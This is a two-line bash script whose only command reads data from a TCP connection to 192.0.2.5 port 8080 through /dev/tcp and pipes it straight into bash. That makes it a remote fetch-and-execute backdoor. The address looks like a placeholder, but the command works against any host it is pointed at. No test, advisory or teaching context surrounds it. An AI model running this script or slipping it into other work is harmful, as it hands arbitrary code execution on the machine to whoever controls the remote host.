#!/bin/bash
cat < /dev/tcp/192.0.2.5/8080 | bash
